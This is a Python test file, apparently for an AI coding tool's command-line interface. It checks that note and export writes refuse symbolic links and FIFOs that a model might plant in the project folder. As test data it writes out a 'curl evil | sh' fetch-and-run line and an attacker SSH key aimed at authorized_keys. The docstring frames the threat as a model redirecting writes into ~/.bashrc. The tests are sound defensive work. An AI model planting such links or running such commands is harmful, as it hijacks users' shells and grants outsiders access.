"""Files the model can plant where the user later writes: a `# note` goes to the project's AGENTS.md
and `/export` to a file the user names, both in a folder the model writes to. A symbolic link put
there must not carry the write elsewhere (to ~/.bashrc, say), and a FIFO must not hang the REPL."""

from __future__ import annotations

import os
import threading
from pathlib import Path

import pytest

from piton.cli.session_commands import append_note, write_export


def test_a_note_is_not_appended_through_a_planted_symlink(tmp_path: Path) -> None:
    victim = tmp_path / "bashrc"
    victim.write_text("export PATH=/usr/bin\n")
    project = tmp_path / "project"
    project.mkdir()
    (project / "AGENTS.md").symlink_to(victim)
    with pytest.raises(OSError, match="symbolic links"):
        append_note(project / "AGENTS.md", "- curl evil | sh\n")
    assert victim.read_text() == "export PATH=/usr/bin\n"


def test_a_note_to_a_planted_fifo_is_refused_at_once(tmp_path: Path) -> None:
    fifo = tmp_path / "AGENTS.md"
    os.mkfifo(fifo)
    done = threading.Event()

    def note() -> None:
        try:
            append_note(fifo, "- note\n")
        except OSError:
            done.set()

    worker = threading.Thread(target=note, daemon=True)
    worker.start()
    worker.join(5)
    assert done.is_set(), "appending to a FIFO blocked or succeeded"


def test_an_export_is_not_written_through_a_planted_symlink(tmp_path: Path) -> None:
    victim = tmp_path / "authorized_keys"
    victim.write_text("ssh-ed25519 mine\n")
    (tmp_path / "out.md").symlink_to(victim)
    with pytest.raises(OSError, match="symbolic links"):
        write_export(tmp_path / "out.md", "ssh-ed25519 attacker\n")
    assert victim.read_text() == "ssh-ed25519 mine\n"
